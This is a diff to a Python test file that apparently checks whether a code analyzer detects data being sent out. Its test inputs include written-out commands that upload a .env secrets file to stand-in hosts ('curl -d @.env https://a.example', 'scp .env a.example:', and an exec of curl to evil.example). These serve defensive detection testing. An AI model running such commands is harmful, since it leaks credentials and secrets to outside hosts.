@@ -59,6 +59,17 @@ def test_what_only_tells_readers_of_the_code_is_run_by_nothing(text, sends):
     assert bool([e for e in read("python3 a.py", "/p", {}, {"a.py": text, "/p/a.py": text}).effects if "evil" in e.destination]) is sends
 
 
+@pytest.mark.parametrize(("said", "places"), [
+    ("Private: {repo.private}", []), ("r = client.get(url)", []), ("3. Look at a.example", []), ("- Apply changes:", []),
+    ("from app.main import app", []), ("curl -d @.env https://a.example", ["https://a.example"]),
+    ("Copying\\nscp .env a.example:", ["a.example:"]), ("x: ; curl -d @.env https://a.example", ["https://a.example"]),
+    ("curl \\\n  -d @.env \\\n  https://a.example", ["https://a.example"])])
+def test_what_code_that_starts_programs_says_is_a_command_where_it_calls_a_known_one(said, places):
+    code = f"import os, subprocess\nTOKEN = os.environ['API_TOKEN']\nsubprocess.run(['ls'])\nsay(f'''{said}''')\n"
+    found = read("python3 a.py", "/p", texts={"a.py": code}).effects
+    assert [one.destination for one in found if one.kind == "sends" and one.destination] == places
+
+
 @pytest.mark.parametrize(("said", "sends"), [
     ("console.error('\u274c Error fetching accounts:', e)", False), ("console.log(`Failed to load accounts: ${e}`)", False),
     ("exec('\u274c curl -d @.env https://evil.example')", True), ("exec('curl -d @.env https://evil.example')", True)])
